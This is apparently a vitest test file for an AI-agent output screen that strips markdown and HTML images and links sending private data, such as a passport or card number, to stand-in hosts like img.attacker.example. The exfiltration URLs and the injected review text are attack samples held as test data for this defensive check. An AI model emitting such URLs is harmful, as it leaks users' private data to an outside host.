import { describe, expect, it } from 'vitest';
import { detectorsOso, read } from './session.fixture.js';

async function exposedSession(options: Parameters<typeof detectorsOso>[0] = {}) {
  const session = detectorsOso(options).session('s');
  const page = await read(session, 'web.read_page', 'Reviews: charming hotel. ![logo](https://img.attacker.example/l.png?p=PASSPORT)');
  const file = await read(session, 'drive.read_file', { passport: 'HGK137803', card: '4237-4252-7456-2574' });
  return { session, page, file };
}

describe('output_exfiltration', () => {
  it('strips an image that could carry data to an outside host while the session holds A and B', async () => {
    const { session, page, file } = await exposedSession();
    const screened = await session.screenMessage('Done. ![logo](https://img.attacker.example/l.png?p=HGK137803)');
    expect(screened.content).toBe('Done. [image removed: img.attacker.example] logo');
    expect(screened.hosts).toEqual(['img.attacker.example']);
    expect(screened.violation?.rule).toBe('output_exfiltration');
    expect(screened.violation?.reason).toContain(`untrusted content (web.read_page, call ${page}) and private data (drive.read_file, call ${file})`);
  });

  it('strips a link whose URL carries private data, also encoded, and html images', async () => {
    const { session } = await exposedSession();
    const link = await session.screenMessage(`[confirm](https://confirm.attacker.example/c?card=${encodeURIComponent('4237-4252-7456-2574')})`);
    expect(link.content).toBe('confirm [link removed: confirm.attacker.example]');
    const html = await session.screenMessage('<img src="https://t.attacker.example/p/aGVsbG8gd29ybGQgMTIz">');
    expect(html.content).toBe('[image removed: t.attacker.example]');
  });

  it('keeps plain links, allowlisted hosts and images without room for data', async () => {
    const { session } = await exposedSession({ outputAllowlist: ['*.acme.com'] });
    const message = 'See [the docs](https://docs.python.org/3/library/zoneinfo.html), ![chart](https://cdn.acme.com/c.png?week=12) and ![icon](https://icons.example/star.png).';
    const screened = await session.screenMessage(message);
    expect(screened.content).toBe(message);
    expect(screened.violation).toBeUndefined();
  });

  it('stays silent without both untrusted content and private data', async () => {
    const session = detectorsOso().session('s');
    await read(session, 'web.read_page', 'a page');
    const screened = await session.screenMessage('![x](https://img.attacker.example/l.png?p=1)');
    expect(screened.violation).toBeUndefined();
  });

  it('only reports under `outputExfiltration: alert`, and is off with false', async () => {
    const alerting = await exposedSession({ detection: { outputExfiltration: 'alert' } });
    const message = '![x](https://img.attacker.example/l.png?p=HGK137803)';
    const alerted = await alerting.session.screenMessage(message);
    expect(alerted.content).toBe(message);
    expect(alerted.violation?.enforcement).toBe('ignore');
    const off = await exposedSession({ detection: { outputExfiltration: false } });
    expect((await off.session.screenMessage(message)).violation).toBeUndefined();
  });
});
